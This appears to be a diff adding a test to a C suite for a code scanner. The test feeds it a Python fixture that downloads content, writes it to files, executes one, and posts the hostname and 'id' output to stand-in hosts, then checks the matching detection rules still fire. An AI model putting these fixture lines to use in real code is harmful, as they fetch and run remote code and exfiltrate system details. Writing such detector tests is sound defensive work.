@@ -137,8 +137,23 @@ static void test_flood(void)
 	ok(found(&f, 1, "any/secret-read"), "a flood of small findings does not push out a large one");
 }
 
+/* More files and more waiting rules than there is room for: what comes last still counts. */
+static void test_crowd(void)
+{
+	bawn_auto_buf b = BAWN_BUF(1u << 20);
+	bawn_buf_str(&b, "import requests, socket, subprocess\nd = requests.get('https://example.com').content\n");
+	for (int i = 0; i < 200; i++)
+		bawn_buf_fmt(&b, "open('f%d', 'wb').write(d)\nrequests.post('https://example.com', data=socket.gethostname())\n", i);
+	bawn_buf_str(&b, "open('last', 'wb').write(d)\nsubprocess.run(['last'])\n"
+	                 "requests.post('https://example.com', data=subprocess.check_output(['id']))\nrequests.get('http://198.51.100.7/')\n");
+	struct bawn_assess_file f = { .language = PY, .bytes = bawn_buf_span(&b) };
+	ok(found(&f, 1, "any/run-download"), "a file is known however many others there are");
+	ok(found(&f, 1, "python/command-output-to-drop"), "a rule that waits is not crowded out");
+}
+
 int main(void)
 {
+	test_crowd();
 	test_flood();
 	test_rows();
 	test_programs();
